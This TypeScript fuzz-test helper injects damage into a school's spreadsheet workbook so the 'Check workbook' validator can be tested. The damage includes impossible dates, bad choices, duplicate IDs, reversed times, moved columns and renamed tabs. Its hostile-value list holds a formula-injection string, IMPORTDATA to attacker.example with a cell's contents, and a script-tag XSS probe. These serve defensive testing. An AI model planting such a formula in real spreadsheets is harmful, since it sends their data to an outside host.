/**
 * Damaged workbooks for the fuzz test: the example school with bad values injected into cells of every
 * tab (impossible years, text in numbers and dates, duplicate IDs, reversed times, 50,000-character
 * cells, formula-looking text, misspelt zones and choices), columns moved, tabs grown past row 1,000 and
 * tabs renamed. Each damage says whether Check workbook must name it.
 */
import fc from 'fast-check';
import type { OfflineRuntime } from '../../offline/runtime';
import { tabDef, tabOrder } from '../../src/core/schema/workbook';
import type { ColumnDef, TabKey } from '../../src/core/schema/types';

type Ss = GoogleAppsScript.Spreadsheet.Spreadsheet;

/** A value to put in a cell: text (typed into a plain-text cell), a number, or a Date built in the runtime's realm. */
export type Junk = { text: string } | { number: number } | { date: [number, number, number, number?] };

export type Damage =
  /** `at` picks the data row (a fraction of the rows) and `pick` the column (a fraction of the tab's columns). */
  | { readonly kind: 'cell'; readonly tab: TabKey; readonly at: number; readonly pick: number; readonly junk: number }
  | { readonly kind: 'duplicateId'; readonly tab: TabKey; readonly at: number }
  | { readonly kind: 'reverse'; readonly tab: TabKey; readonly at: number }
  | { readonly kind: 'move'; readonly tab: TabKey; readonly from: number; readonly to: number }
  | { readonly kind: 'grow'; readonly rows: number }
  | { readonly kind: 'rename'; readonly tab: TabKey; readonly to: string };

const LONG = 'x'.repeat(50_000);
const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';

/** Hostile text any column may receive; in a typed column it is a bad value. */
const HOSTILE: readonly Junk[] = [
  { text: FORMULA },
  { text: '+44 7700 900123' },
  { text: '-' },
  { text: '@reception' },
  { text: LONG },
  { text: '<script>alert(1)</script>' },
  { text: 'lots' },
  { text: '11/30/2026 14:05' },
  { text: 'last Tuesday' },
  { text: '1000-01-01' },
  { text: "'quoted" },
  { text: '' },
];

/** Values that are bad for a column of each type (besides the hostile text). */
function badFor(col: ColumnDef): readonly Junk[] {
  switch (col.type) {
    case 'date':
    case 'datetime':
      return [{ date: [20226, 8, 1] }, { date: [1066, 9, 14, 12] }, { date: [3000, 0, 1, 12] }, { number: -5 }];
    case 'number':
      return [{ number: -4 }, { date: [2026, 8, 1] }];
    case 'integer':
      return [{ number: 0 }, { number: 1.5 }, { number: -3 }];
    case 'percent':
      return [{ number: 150 }, { number: -1 }];
    case 'enum':
      return [{ text: `${col.values![0]}x` }, { text: 'Urgentt' }];
    case 'yesno':
      return [{ text: 'maybe' }];
    case 'email':
      return [{ text: 'jo.harris@' }];
    case 'id':
      return [{ date: [2026, 8, 1] }];
    case 'ref':
      return [{ date: [2026, 8, 1] }, { text: 'NOSUCH' }];
    case 'refs':
      return [{ text: 'NOSUCH' }];
    case 'hours':
      return [{ text: 'Mon-Fry 08:00-18:00' }, { text: 'Mon-Fri 25:00-26:00' }, { text: 'Weekdays, roughly' }];
    default:
      return col.key === 'timeZone' ? [{ text: 'Europe/Londn' }, { text: 'Mars/Olympus' }] : [];
  }
}

/** Column types whose every bad value is a problem Check workbook must name; text and lists take anything. */
const CHECKED = new Set(['date', 'datetime', 'number', 'integer', 'percent', 'enum', 'yesno', 'email', 'id', 'ref', 'refs', 'hours']);
const isChecked = (col: ColumnDef, junk: Junk): boolean => {
  // A blank is a problem only where a value is required.
  if ('text' in junk && junk.text === '') return !!col.required;
  if (col.key === 'timeZone') return 'text' in junk && junk.text.trim() !== '' && junk.text !== '-' ? !/^(UTC|GMT)$/.test(junk.text) : false;
  if (!CHECKED.has(col.type)) return false;
  // Text in a code column is a code like any other, unless it names nothing (a reference to no row).
  if (col.type === 'id' && 'text' in junk) return false;
  // Text in a reference or hours column that names no row, calendar or hours is as bad as a misspelt choice.
  return true;
};

/** The value a `cell` damage writes, and whether it must be reported. */
export function junkOf(col: ColumnDef, pick: number): { junk: Junk; mustReport: boolean } {
  const choices = [...badFor(col), ...HOSTILE];
  const junk = choices[Math.floor(pick * choices.length) % choices.length];
  return { junk, mustReport: isChecked(col, junk) };
}

const TIMES: Partial<Record<TabKey, [string, string]>> = {
  incidents: ['Opened', 'Resolved'],
  closures: ['From', 'To'],
  holds: ['From', 'Until'],
  contracts: ['Start', 'Renewal'],
};
const WITH_ID = tabOrder().filter((k) => tabDef(k).columns.some((c) => c.type === 'id'));
/** The tabs the example school fills (the Documents tab starts empty). */
const FILLED = tabOrder().filter((k) => k !== 'documents');

const fraction = fc.double({ min: 0, max: 0.999, noNaN: true });
export const damageArb: fc.Arbitrary<Damage> = fc.oneof(
  { weight: 8, arbitrary: fc.record({ kind: fc.constant('cell' as const), tab: fc.constantFrom(...FILLED), at: fraction, pick: fraction, junk: fraction }) },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant('duplicateId' as const), tab: fc.constantFrom(...WITH_ID.filter((k) => k !== 'documents')), at: fraction }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('reverse' as const), tab: fc.constantFrom(...(Object.keys(TIMES) as TabKey[])), at: fraction }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('move' as const), tab: fc.constantFrom(...FILLED), from: fraction, to: fraction }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('grow' as const), rows: fc.integer({ min: 1001, max: 1400 }) }) },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant('rename' as const), tab: fc.constantFrom(...FILLED), to: fc.constantFrom('Old %s', '%s (2025)', '%s log') }),
  },
);

/** A cell Check workbook must name: the column, or any column of the row when `column` is undefined. */
export interface Expected {
  readonly tab: string;
  readonly row: number;
  readonly column?: string;
  readonly why: string;
}

const sheetOf = (rt: OfflineRuntime, key: TabKey) => (rt.spreadsheet as unknown as Ss).getSheetByName(tabDef(key).name);

function realm(rt: OfflineRuntime, junk: Junk): unknown {
  if ('text' in junk) return junk.text;
  if ('number' in junk) return junk.number;
  const [y, m, d, h] = junk.date;
  return rt.run(`(() => { const x = new Date(2000, 0, 1, ${h ?? 0}); x.setFullYear(${y}, ${m}, ${d}); return x; })()`);
}

/** Writes one cell as a user would put the value there: text into a plain-text cell, so it stays text. */
function put(rt: OfflineRuntime, sheet: GoogleAppsScript.Spreadsheet.Sheet, row: number, col: number, junk: Junk): void {
  const cell = sheet.getRange(row, col);
  if ('text' in junk) cell.setNumberFormat('@');
  cell.setValue(realm(rt, junk));
}

/**
 * Applies the damages in a fixed order (growth, moved columns, cells, renamed tabs last) and returns what
 * Check workbook must name. Cells are found by header, so moved columns are hit where they now are.
 */
export function applyDamage(rt: OfflineRuntime, damages: readonly Damage[]): Expected[] {
  const expected: Expected[] = [];
  const order = ['grow', 'move', 'cell', 'duplicateId', 'reverse', 'rename'];
  const sorted = [...damages].sort((a, b) => order.indexOf(a.kind) - order.indexOf(b.kind));
  const renamed = new Set(damages.filter((d) => d.kind === 'rename').map((d) => (d as { tab: TabKey }).tab));
  const touched = new Set<string>();
  for (const d of sorted) {
    if (d.kind === 'grow') {
      const log = sheetOf(rt, 'incidents')!;
      if (log.getLastRow() >= d.rows) continue;
      const values = log.getDataRange().getValues();
      const ref = values[0].indexOf('Ref');
      const copies: unknown[][] = [];
      for (let k = 0; values.length + copies.length < d.rows; k++) {
        const r = [...values[1 + (k % (values.length - 1))]];
        r[ref] = `GROWN-${k}`;
        copies.push(r);
      }
      if (log.getMaxRows() < d.rows) log.insertRowsAfter(log.getMaxRows(), d.rows - log.getMaxRows());
      const at = values.length + 1;
      const formats = log.getRange(2, 1, 1, values[0].length).getNumberFormats()[0];
      log.getRange(at, 1, copies.length, values[0].length).setNumberFormats(copies.map(() => formats));
      log.getRange(at, 1, copies.length, values[0].length).setValues(copies);
      continue;
    }
    const sheet = sheetOf(rt, d.tab);
    if (!sheet) continue;
    const width = sheet.getLastColumn();
    const height = sheet.getLastRow();
    if (d.kind === 'move') {
      const all = sheet.getRange(1, 1, height, width);
      const values = all.getValues();
      const formats = all.getNumberFormats();
      const from = Math.floor(d.from * width);
      const to = Math.floor(d.to * width);
      const move = <T>(rows: T[][]) =>
        rows.map((r) => {
          const x = [...r];
          const [c] = x.splice(from, 1);
          x.splice(to, 0, c);
          return x;
        });
      all.setNumberFormats(move(formats));
      all.setValues(move(values));
      continue;
    }
    if (d.kind === 'rename') {
      sheet.setName(d.to.replace('%s', tabDef(d.tab).name));
      continue;
    }
    if (height < 2) continue;
    const header = sheet.getRange(1, 1, 1, width).getValues()[0].map(String);
    const row = 2 + Math.floor(d.at * (height - 1));
    const name = tabDef(d.tab).name;
    const report = (column: string | undefined, why: string, at = row) => {
      if (!renamed.has(d.tab)) expected.push({ tab: name, row: at, column, why });
    };
    if (d.kind === 'cell') {
      const cols = tabDef(d.tab).columns.filter((c) => header.includes(c.header));
      const col = cols[Math.floor(d.pick * cols.length)];
      const key = `${name}|${row}|${col.header}`;
      if (touched.has(key)) continue;
      touched.add(key);
      const { junk, mustReport } = junkOf(col, d.junk);
      put(rt, sheet, row, header.indexOf(col.header) + 1, junk);
      if (mustReport) report(col.header, `${col.header} = ${JSON.stringify(junk).slice(0, 60)}`);
    } else if (d.kind === 'duplicateId') {
      const id = tabDef(d.tab).columns.find((c) => c.type === 'id')!;
      const c = header.indexOf(id.header);
      const other = row === 2 ? 3 : 2;
      if (c < 0 || height < 3 || touched.has(`${name}|${row}|${id.header}`)) continue;
      const value = sheet.getRange(other, c + 1).getValue();
      if (value === '' || touched.has(`${name}|${other}|${id.header}`)) continue;
      touched.add(`${name}|${row}|${id.header}`);
      sheet.getRange(row, c + 1).setValue(value);
      // The later of the two rows is the repeat.
      report(undefined, `duplicate ${id.header} ${String(value)}`, Math.max(row, other));
    } else if (d.kind === 'reverse') {
      const [a, b] = TIMES[d.tab]!.map((h) => header.indexOf(h) + 1);
      if (a < 1 || b < 1) continue;
      const first = sheet.getRange(row, a).getValue();
      const second = sheet.getRange(row, b).getValue();
      const isDate = (v: unknown) => Object.prototype.toString.call(v) === '[object Date]';
      if (!isDate(first) || !isDate(second) || (first as Date).getTime() >= (second as Date).getTime()) continue;
      if ([a, b].some((c) => touched.has(`${name}|${row}|${header[c - 1]}`))) continue;
      touched.add(`${name}|${row}|${header[a - 1]}`).add(`${name}|${row}|${header[b - 1]}`);
      sheet.getRange(row, a).setValue(second);
      sheet.getRange(row, b).setValue(first);
      report(undefined, `${header[a - 1]} after ${header[b - 1]}`);
    }
  }
  return expected;
}
